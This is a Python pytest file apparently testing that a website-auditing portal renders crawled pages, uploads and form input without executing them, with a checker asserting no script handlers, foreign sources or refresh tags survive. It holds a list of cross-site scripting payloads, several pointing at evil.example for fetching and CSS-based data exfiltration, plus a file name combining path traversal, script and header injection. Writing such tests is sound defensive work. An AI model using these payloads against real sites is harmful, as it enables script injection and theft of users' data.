"""Pages that were crawled, and files that were sent in, are hostile: shown in the portal, nothing of them runs."""

import shutil
from urllib.parse import urlsplit

import lxml.html
import pytest
from mini_district import FIRST, District
from portal_visitor import UNIT, Portal

from auditor.models import Basis, Severity, Verdict
from auditor.models.errand import ErrandAnswer
from auditor.models.issue import Actor, Event, Opening
from auditor.models.issue_kinds import Act, Source
from auditor.models.role import Role
from auditor.office import errands, letters
from auditor.office.issues import Desk
from auditor.office.opening import open_spot
from auditor.office.papers import scheme_of

PAYLOADS = (
    '<script>document.title="ran"</script>',
    '<img src="http://evil.example/a.png" onerror="document.title=1">',
    '<a href="javascript:alert(1)">点我</a>',
    '<svg onload="alert(1)"><script>alert(1)</script><use href="http://evil.example/a.svg#x"/></svg>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    "<style>@import url(http://evil.example/a.css); input[value^=a]{background:url(http://evil.example/a)}</style>",
    '<link rel="stylesheet" href="http://evil.example/b.css">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action="http://evil.example/"><button formaction="javascript:alert(1)">提交</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xss:onload style='behavior:url(http://evil.example/x)'>标签</xss:onload>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202etxt.exe\u2066",
)
TAGS = set(
    "html head meta title link script body a header p nav ul li div span form input button main section h1 h2 h3"
    " dl dt dd br iframe details summary label small textarea select option fieldset legend ol b table caption del ins"
    " thead tbody tr th td footer mark code article datalist".split()
)


def body() -> bytes:
    inside = "".join(f"<p>第{n}项 {payload} 正文</p>" for n, payload in enumerate(PAYLOADS))
    return (
        "<!doctype html><html><head><meta charset=utf-8><title>关于某事的通知</title></head>"
        f"<body><div class=article-content>{inside}<p>这是被引用的原文。</p></div></body></html>"
    ).encode()


@pytest.fixture
def portal(first_night, tmp_path):
    district, _ = first_night
    shutil.copytree(district.folder, tmp_path, dirs_exist_ok=True)
    return Portal(District(district.portal, tmp_path))


@pytest.fixture
def row(portal):
    """A row whose every word came from a hostile page."""
    everything = "".join(PAYLOADS)
    opening = Opening(
        source=Source.MACHINE,
        unit=UNIT,
        section=everything,
        title=everything,
        url="javascript:alert(document.domain)",
        page_url='http://www.wenchangwan.example/"onmouseover="alert(1)',
        code="TXT001",
        name=everything,
        message=f'见 http://evil.example/"onclick=alert(1) {everything}',
        quote="这是被引用的原文",
        expected=everything,
        basis=(Basis(everything, "第一条", verified=True),),
        severity=next(iter(Severity)),
        verdict=Verdict.FAIL,
        capture=portal.store.bodies.put(body()),
    )
    first = Event(at=FIRST, by="机检", role=Role.MACHINE, act=Act.OPEN)
    [issue] = portal.store.issues.open("wenchangwan", [(opening, first)])
    desk = Desk(portal.store, Actor(name="王丽", role=Role.INSPECTOR), portal.at)
    return desk.notify(desk.confirm(issue, why=everything), scheme_of("quarterly_check"))


def harmless(text: str) -> None:
    """Nothing but our own tags, no handler, no address that runs or that is fetched from elsewhere."""
    tree = lxml.html.document_fromstring(text)
    for node in tree.iter(lxml.etree.Element):
        assert node.tag in TAGS, node.tag
        for name, value in node.attrib.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc", "formaction"), (
                node.tag,
                name,
            )
            if name == "href" and node.tag == "a":
                assert urlsplit(value).scheme in ("", "http", "https"), value
            elif name in ("src", "href", "action", "data", "hx-get"):
                assert value.startswith("/") and not value.startswith("//"), value
        if node.tag == "script":
            assert node.get("src") and not (node.text or "").strip()
        if node.tag == "meta":
            assert "http-equiv" not in node.attrib


def test_every_page_that_shows_the_row_is_harmless(portal, row):
    base = f"/issues/{row.portal}/{row.number}"
    for name, paths in {
        "unit": ("/work", "/deductions", base, f"{base}/page"),
        "inspector": ("/issues", "/overview", "/rules", base, f"{base}/page"),
        "chief": ("/appeals", base),
    }.items():
        visitor = portal.someone(name)
        for path in paths:
            answer = visitor.get(path)
            assert answer.status_code == 200, path
            harmless(answer.text)


def test_the_framed_page_shows_words_marks_the_quote_and_is_shut_in(portal, row):
    answer = portal.someone("unit").get(f"/issues/{row.portal}/{row.number}/page")
    assert '<mark id="quote">这是被引用的原文</mark>' in answer.text and "第0项" in answer.text
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox;") and "script-src" not in policy and "img-src" not in policy


def test_letters_looks_and_claims_of_a_hostile_row_are_harmless(portal, row):
    everything = "".join(PAYLOADS)
    desk = Desk(portal.store, Actor(name="王丽", role=Role.INSPECTOR), portal.at)
    scheme = scheme_of("quarterly_check")
    [step] = [
        one.step.name
        for _, one in letters.proposed(portal.store, row.portal, scheme, portal.at.date())
        if row.number in {reached.issue.number for reached in one.rows}
    ]
    letter = letters.issue(
        desk,
        portal.portal,
        scheme,
        step,
        UNIT,
        numbers=[row.number],
        note=everything,
        document_number=everything,
    )
    own = Desk(portal.store, Actor(name="张敏", role=Role.UNIT, unit=UNIT), portal.at)
    claimed = own.plead(row, everything, why=everything)
    errands.ask_look(own, claimed)
    look = portal.store.errands.take([row.portal])
    seen = ErrandAnswer(at=portal.at, done=True, words=everything, after=row.opening.capture)
    portal.store.errands.end(look, seen)
    base, written = f"/issues/{row.portal}/{row.number}", f"/letters/{row.portal}/{letter.number}"
    for name, paths in {
        "unit": ("/letters", written, base, f"{base}/page/now", "/work"),
        "inspector": ("/letters/issued", "/letters/proposed", written, base, f"{base}/page/now"),
    }.items():
        visitor = portal.someone(name)
        for path in paths:
            answer = visitor.get(path)
            assert answer.status_code == 200, path
            harmless(answer.text)


def test_answers_of_a_self_check_and_names_stay_words(portal):
    visitor, everything = portal.someone("unit"), "".join(PAYLOADS)
    visitor.get("/self")
    form = {"period": "2026Q4", "task": "1", "url": "", "nothing": everything}
    assert visitor.post("/self/wenchangwan", form).status_code == 303
    harmless(visitor.get("/self").text)
    harmless(portal.someone("inspector").get("/self/compared").text)
    refused = visitor.post("/contact/wenchangwan", {"name": everything, "phone": everything})
    assert refused.status_code == 400
    harmless(refused.text)


def test_a_hostile_file_name_stays_a_name(portal, row):
    visitor = portal.someone("unit")
    base = f"/issues/{row.portal}/{row.number}"
    visitor.get(base)
    hostile = '..\\..\\"><script>alert(1)</script>\r\nSet-Cookie: a=b\u202e.pdf'
    form = {"seen": row.version, "why": "见附件"}
    assert visitor.post(f"{base}/fixed", form, files=[("files", (hostile, b"%PDF-1.4"))]).status_code == 303
    [upload] = portal.store.uploads.of(row.portal, row.number)
    assert not set(upload.name) & set("\\\r\n\u202e") and upload.name.endswith(".pdf")
    page = visitor.get(base)
    harmless(page.text)
    [link] = [href for href in lxml.html.fromstring(page.text).xpath("//a/@href") if "/files/" in href]
    saved = visitor.get(link)
    assert saved.content == b"%PDF-1.4" and "set-cookie" not in saved.headers
    assert saved.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")


def test_what_people_write_stays_words(portal, row):
    visitor = portal.someone("unit")
    base = f"/issues/{row.portal}/{row.number}"
    visitor.get(base)
    form = {"seen": row.version, "why": "".join(PAYLOADS), "kind": "误报"}
    assert visitor.post(f"{base}/appeal", form).status_code == 303
    harmless(portal.someone("chief").get(base).text)
    harmless(visitor.get(base).text)


def test_a_draft_stays_words(portal):
    visitor = portal.someone("unit")
    visitor.get("/check")
    answer = visitor.post("/check", {"words": "\n".join(PAYLOADS)})
    assert answer.status_code == 200
    text = answer.text.replace("<aside", "<div").replace("</aside", "</div").replace("<article", "<div")
    harmless(text.replace("</article", "</div").replace("<q>", "<p>").replace("</q>", "</p>"))


def test_the_queue_and_what_is_written_by_hand_stay_words(portal, row):
    visitor, words = portal.someone("inspector"), "".join(PAYLOADS)
    visitor.get("/add")
    form = {
        "source": "outside", "portal": row.portal, "unit": UNIT, "url": "http://www.example.gov.cn/1.html",
        "code": "FLD001", "message": words, "quote": words, "title": words[:500], "section": words[:300],
        "sender": words[:200], "received_on": "2026-11-20", "why": words,
    }  # fmt: skip
    written = visitor.post("/add", form).headers["location"].partition("?")[0]
    for path in (written, written.replace("/issues/", "/review/"), "/review", "/issues?words=%3Cscript%3E"):
        harmless(visitor.get(path).text)
    answer = visitor.post("/review", {"word": "dismiss", "rows": "", "why": words, "code": words[:90]})
    harmless(answer.text)


def test_an_account_of_any_name_stays_a_name(portal):
    visitor = portal.someone("operator")
    visitor.get("/users")
    form = {"name": "<b>x</b>&\"'", "person": "<script>alert(1)</script>", "role": "chief"}
    harmless(visitor.post("/users", form).text)
    harmless(visitor.get("/users").text)


def test_an_inspection_of_hostile_pages_is_harmless(portal):
    visitor = portal.someone("inspector")
    everything = "".join(PAYLOADS)
    desk = Desk(portal.store, Actor(name=everything, role=Role.INSPECTOR), portal.at)
    one = open_spot(desk, portal.portal, None, why=everything, size=2, seed=7)
    base = f"/inspections/{one.portal}/{one.number}"
    for path in (base, f"{base}/work", f"{base}/papers", "/inspections"):
        harmless(visitor.get(path).text.replace("<article", "<div").replace("</article", "</div"))
